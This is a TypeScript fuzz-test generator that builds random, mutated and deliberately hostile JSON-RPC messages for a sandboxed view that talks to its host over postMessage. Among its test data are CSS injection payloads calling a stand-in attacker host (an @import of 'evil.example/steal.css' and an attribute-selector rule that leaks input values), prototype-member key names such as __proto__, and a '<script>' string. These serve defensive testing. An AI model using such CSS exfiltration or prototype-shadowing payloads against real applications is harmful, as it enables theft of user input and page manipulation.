// A seeded generator of random and mutated inbound messages for the fuzz test: deterministic, and
// limited to data that postMessage's structured clone can carry. Besides well-formed messages it makes
// the shapes a careless or hostile host sends: answers to the view's own requests (duplicated and
// replayed), progress for requests that did or did not ask for it, requests to a slow view tool whose
// id is then reused and cancelled, host-context keys named like Object.prototype members, variables
// that are not custom properties, and font CSS with @import and selectors.

/** mulberry32: a small, fast, seeded PRNG returning floats in [0, 1). */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const KEYS = [
  "jsonrpc",
  "id",
  "method",
  "params",
  "result",
  "error",
  "code",
  "message",
  "data",
  "arguments",
  "content",
  "structuredContent",
  "isError",
  "_meta",
  "reason",
  "requestId",
  "progressToken",
  "progress",
  "theme",
  "styles",
  "variables",
  "css",
  "fonts",
  "displayMode",
  "availableDisplayModes",
  "containerDimensions",
  "safeAreaInsets",
  "toolInfo",
  "tool",
  "name",
  "locale",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "then",
  "valueOf",
  "--color-text-primary",
  "--x",
  "",
  "top",
  "height",
  "maxHeight",
  "width",
  "platform",
  "deviceCapabilities",
  "isPrototypeOf",
  "propertyIsEnumerable",
  "toLocaleString",
  "__defineGetter__",
  "display",
  "background-image",
];
/** Keys that shadow an `Object.prototype` member when set on a plain object. */
export const PROTOTYPE_KEYS = ["toString", "valueOf", "hasOwnProperty", "__proto__", "constructor", "isPrototypeOf", "toLocaleString"];
/** Inline properties that are not custom properties: a host must never set them on `<html>`. */
const NOT_CUSTOM = ["display", "background-image", "pointer-events", "position", "color-scheme", "-x", "—x", " --x", "--"];
const FONT_CSS = [
  `@font-face { font-family: "A"; src: url(https://fonts.example/a.woff2); }`,
  `@import url(https://evil.example/steal.css);`,
  `@import "https://fonts.example/a.css"; @font-face { font-family: B; src: local(B); }`,
  `input[value^="a"] { background: url(https://evil.example/a); }`,
  `@font-face { font-family: C; src: url(x) } html { display: none }`,
  `@media all { @font-face { font-family: D; } }`,
  `@font-face { font-family: "E"; /* } body { color: red */ }`,
  `@import url(https://fonts.example/a.css) layer(x); @font-face {`,
];
/** Ids of requests to the slow view tool, reused on purpose: in flight, again, cancelled. */
export const SLOW_IDS = ["slow-1", "slow-2", 5000, 5001];
const METHODS = [
  "ui/notifications/tool-input",
  "ui/notifications/tool-input-partial",
  "ui/notifications/tool-result",
  "ui/notifications/tool-cancelled",
  "ui/notifications/host-context-changed",
  "ui/resource-teardown",
  "ping",
  "tools/call",
  "tools/list",
  "notifications/cancelled",
  "notifications/progress",
  "notifications/tools/list_changed",
  "ui/initialize",
  "ui/notifications/initialized",
  "ui/notifications/sandbox-resource-ready",
  "foo/bar",
  "",
  "__proto__",
  "constructor",
  "hasOwnProperty",
];
const NUMBERS = [0, -0, 1, -1, 1.5, 0.1, 2 ** 53, 2 ** 53 - 1, -(2 ** 53), NaN, Infinity, -Infinity, 1e308, 101, 7];
const STRINGS = [
  "",
  "2.0",
  "1.0",
  "hello",
  "dark",
  "light",
  "blue",
  "inline",
  "fullscreen",
  "pip",
  "modal",
  "null",
  "\u0000",
  "x".repeat(1000),
  "💥",
  "<script>",
];

export class Fuzzer {
  readonly #random: () => number;
  /** The ids of the view's own requests, for answers and progress; the test adds them as it sees them. */
  readonly ownIds: number[] = [];
  /** Recent well-formed messages, replayed as they were. */
  readonly #recent: Array<Record<string, unknown>> = [];
  constructor(seed: number) {
    this.#random = prng(seed);
  }

  /** A float in [0, 1). */
  next(): number {
    return this.#random();
  }

  int(n: number): number {
    return Math.floor(this.#random() * n);
  }

  pick<T>(list: readonly T[]): T {
    return list[this.int(list.length)]!;
  }

  chance(p: number): boolean {
    return this.#random() < p;
  }

  /** Any structured-cloneable value, up to `depth` levels deep. */
  value(depth = 3): unknown {
    const kind = this.int(depth > 0 ? 16 : 9);
    switch (kind) {
      case 0:
        return null;
      case 1:
        return undefined;
      case 2:
        return this.chance(0.5);
      case 3:
        return this.pick(NUMBERS);
      case 4:
        return this.pick(STRINGS);
      case 5:
        return this.pick(METHODS);
      case 6:
        return BigInt(this.int(1000)) - 500n;
      case 7:
        return this.pick([new Date(this.int(1e12)), /re+/g, new Uint8Array([this.int(256)]), new ArrayBuffer(2), new Error("e")]);
      case 8:
        return this.int(2 ** 31) - 2 ** 30;
      case 9:
      case 10:
      case 11:
        return this.object(depth - 1);
      case 12:
      case 13:
        return Array.from({ length: this.int(4) }, () => this.value(depth - 1));
      case 14:
        return new Map([[this.value(0), this.value(0)]]);
      default:
        return new Set([this.value(0)]);
    }
  }

  /** A plain object with random keys (including prototype-member names). */
  object(depth = 2): Record<string, unknown> {
    const out: Record<string, unknown> = {};
    const n = this.int(5);
    for (let i = 0; i < n; i++)
      Object.defineProperty(out, this.pick(KEYS), { value: this.value(depth), enumerable: true, writable: true, configurable: true });
    return out;
  }

  /**
   * A well-formed host → view message: a plain one, one of the hostile shapes, or (a replay) one
   * sent before.
   */
  valid(): Record<string, unknown> {
    const roll = this.#random();
    if (roll < 0.1 && this.#recent.length) return this.pick(this.#recent);
    const message = roll < 0.4 ? this.#plain() : this.#hostile();
    this.#recent.push(message);
    if (this.#recent.length > 20) this.#recent.shift();
    return message;
  }

  #plain(): Record<string, unknown> {
    const note = (method: string, params?: unknown) =>
      params === undefined ? { jsonrpc: "2.0", method } : { jsonrpc: "2.0", method, params };
    const id = this.chance(0.5) ? this.int(1000) : `r${this.int(1000)}`;
    const templates: Array<() => Record<string, unknown>> = [
      () => note("ui/notifications/tool-input", { arguments: { q: this.pick(STRINGS), n: this.int(9) } }),
      () => note("ui/notifications/tool-input-partial", { arguments: { q: this.pick(STRINGS) } }),
      () => note("ui/notifications/tool-result", { content: [{ type: "text", text: "ok" }], structuredContent: { n: this.int(9) } }),
      () => note("ui/notifications/tool-cancelled", this.chance(0.5) ? { reason: "user" } : {}),
      () =>
        note("ui/notifications/host-context-changed", {
          theme: this.pick(["light", "dark"]),
          styles: { variables: { "--color-text-primary": "red" }, css: { fonts: "@import url(a.css);" } },
        }),
      () =>
        note("ui/notifications/host-context-changed", {
          displayMode: "fullscreen",
          containerDimensions: { width: 400, maxHeight: 600 },
          safeAreaInsets: { top: 1, right: 2, bottom: 3, left: 4 },
        }),
      () => ({ jsonrpc: "2.0", id, method: "ping" }),
      () => ({ jsonrpc: "2.0", id, method: "ui/resource-teardown", params: {} }),
      () => ({ jsonrpc: "2.0", id, method: "tools/call", params: { name: this.pick(["echo", "nope"]), arguments: { text: "hi" } } }),
      () => ({ jsonrpc: "2.0", id, method: "tools/list", params: {} }),
      () => note("notifications/cancelled", { requestId: id, reason: "x" }),
      () => note("notifications/progress", { progressToken: id, progress: 1 }),
      () => note("notifications/tools/list_changed", {}),
      () => ({ jsonrpc: "2.0", id, result: {} }),
      () => ({ jsonrpc: "2.0", id, error: { code: -32000, message: "denied" } }),
    ];
    return this.pick(templates)();
  }

  #hostile(): Record<string, unknown> {
    const note = (method: string, params: unknown) => ({ jsonrpc: "2.0", method, params });
    // Mostly one of the view's latest requests (likely still pending), else any id.
    const own = () => (this.ownIds.length && this.chance(0.8) ? this.pick(this.ownIds.slice(-4)) : this.int(1000));
    const slow = () => this.pick(SLOW_IDS);
    const context = (params: Record<string, unknown>) => note("ui/notifications/host-context-changed", params);
    const templates: Array<() => Record<string, unknown>> = [
      () => ({ jsonrpc: "2.0", id: own(), result: { n: this.int(9) } }),
      () => ({ jsonrpc: "2.0", id: own(), error: { code: this.pick([-32603, -32000, 1]), message: "no" } }),
      () =>
        note("notifications/progress", {
          progressToken: own(),
          progress: this.chance(0.8) ? this.pick(NUMBERS) : this.value(0),
          ...(this.chance(0.5) ? { total: 10, message: "m" } : {}),
        }),
      () => ({ jsonrpc: "2.0", id: slow(), method: "tools/call", params: { name: "slow", arguments: {} } }),
      () => ({
        jsonrpc: "2.0",
        id: slow(),
        method: this.pick(["ping", "tools/list", "ui/resource-teardown", "tools/call"]),
        params: { name: "echo", arguments: { text: "again" } },
      }),
      () => note("notifications/cancelled", { requestId: slow(), reason: "fuzz" }),
      () => ({ jsonrpc: "2.0", id: `f${this.int(1000)}`, method: "tools/call", params: { name: "faulty", arguments: {} } }),
      () => context(this.#shadowing({ theme: this.pick(["light", "dark"]), locale: "de" })),
      () =>
        context({
          styles: { variables: this.#shadowing({ "--color-text-primary": "red" }) },
          toolInfo: { tool: this.#shadowing({ name: "t" }) },
        }),
      () =>
        context({
          styles: {
            variables: Object.fromEntries(
              NOT_CUSTOM.map((name) => [name, this.pick(["none", "url(https://evil.example/x)", "fixed", "dark"])]),
            ),
          },
        }),
      () => context({ styles: { css: { fonts: Array.from({ length: 1 + this.int(3) }, () => this.pick(FONT_CSS)).join("\n") } } }),
    ];
    return this.pick(templates)();
  }

  /** `base` with one to three keys named like Object.prototype members, as own enumerable properties. */
  #shadowing(base: Record<string, unknown>): Record<string, unknown> {
    const out = { ...base };
    const n = 1 + this.int(3);
    for (let i = 0; i < n; i++)
      Object.defineProperty(out, this.pick(PROTOTYPE_KEYS), { value: this.value(1), enumerable: true, writable: true, configurable: true });
    return out;
  }

  /** A valid message with one to three random mutations, possibly deep inside. */
  mutated(): unknown {
    let message: unknown = this.valid();
    const rounds = 1 + this.int(3);
    for (let i = 0; i < rounds; i++) message = this.#mutate(message, 0);
    return message;
  }

  #mutate(target: unknown, depth: number): unknown {
    if (typeof target !== "object" || target === null || Array.isArray(target) || depth > 4) return this.value(2);
    const obj = { ...(target as Record<string, unknown>) };
    const keys = Object.keys(obj);
    const op = this.int(6);
    if (op === 0 && keys.length) delete obj[this.pick(keys)];
    else if (op === 1 && keys.length) obj[this.pick(keys)] = this.value(2);
    else if (op === 2)
      Object.defineProperty(obj, this.pick(KEYS), { value: this.value(2), enumerable: true, writable: true, configurable: true });
    else if (op === 3 && keys.length) {
      const key = this.pick(keys);
      obj[key] = this.#mutate(obj[key], depth + 1);
    } else if (op === 4) obj.id = this.pick([null, 1.5, NaN, -1, 2 ** 60, "", {}, [], true, this.int(5)]);
    else return this.value(1);
    return obj;
  }
}
